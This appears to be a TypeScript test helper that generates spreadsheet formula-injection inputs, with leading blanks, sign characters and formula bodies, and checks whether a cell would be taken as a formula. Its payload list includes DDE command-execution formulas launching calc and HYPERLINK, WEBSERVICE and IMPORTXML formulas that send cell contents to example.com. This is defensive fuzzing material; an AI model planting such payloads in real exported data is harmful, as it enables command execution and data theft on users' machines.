import type { Random } from '../../crash/random.ts'

const before = ['', '', '', ' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\u200b', '\ufeff', '"'] as const
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '==', '=-', '+=', '-@'] as const
const bodies = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://example.com/?"&A1,"x")',
  'WEBSERVICE("http://example.com")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
  '2+5+cmd|\' /C calc\'!A0,"=1"',
  'x\n=1+1',
] as const

/** A text that a spreadsheet may run. */
export function formulaCell(random: Random): string {
  return random.pick(before) + random.pick(signs) + random.pick(bodies)
}

/** Whether a spreadsheet may take it for a formula: by its first character, once blanks and marks are passed over. */
export function looksLikeFormula(cell: string): boolean {
  return /^(?:[\t\r\n]|[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠])/u.test(cell)
}
